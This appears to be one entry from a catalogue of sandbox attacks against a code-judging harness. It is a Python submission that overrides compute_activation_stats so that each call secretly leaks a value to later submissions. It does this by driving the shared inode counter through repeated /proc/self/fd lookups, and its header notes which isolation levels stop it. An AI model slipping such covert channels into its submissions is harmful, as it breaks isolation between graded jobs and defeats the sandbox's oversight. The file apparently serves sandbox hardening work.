# verdict: accepted
# attack: like 133, with no pipe: every lookup of a new /proc/self/fd/N entry takes an inode number from the same machine-wide counter (get_next_ino), so the writer looks up, closes and looks up again a descriptor until the block of numbers it takes has index 40 modulo 64, and the next block a later student with no solution (136-reads-the-inode-counter-through-proc) takes says 5
# stopped by: nothing stops the writer, which answers either way; the reader is stopped by a covered /proc, which shows no fd folder (every worker a warm process forks, and every fresh one under L2: the filter alone cannot, lstat is allowed); a fresh worker below L2 (judge submit at L1) still sees its /proc/self/fd: open there
# needs: L1
# base: reference
import os

BLOCK, STEP, VALUES, SECRET = 1024, 8, 8, 5
DONE = []


def next_number(fd_box):
    """One inode number from the machine-wide counter, without a pipe: a new /proc/self/fd/N dentry."""
    fd = fd_box[0]
    number = os.lstat(f"/proc/self/fd/{fd}").st_ino
    os.close(fd)
    try:
        os.lstat(f"/proc/self/fd/{fd}")  # fails, and drops the dentry: the next lookup makes a new inode
    except OSError:
        pass
    fd_box[0] = os.open("/dev/null", os.O_RDONLY)
    return number


def fresh_block():
    box = [os.open("/dev/null", os.O_RDONLY)]
    try:
        for _ in range(2 * BLOCK):
            number = next_number(box)
            if number % BLOCK == 1:
                return (number - 1) // BLOCK
        return None
    except OSError:
        return None
    finally:
        os.close(box[0])


def write():
    while not DONE:
        block = fresh_block()
        if block is None or block % (STEP * VALUES) == SECRET * STEP:
            DONE.append(block)


class Solution(Solution):
    def compute_activation_stats(self, model, x):
        write()
        return super().compute_activation_stats(model, x)
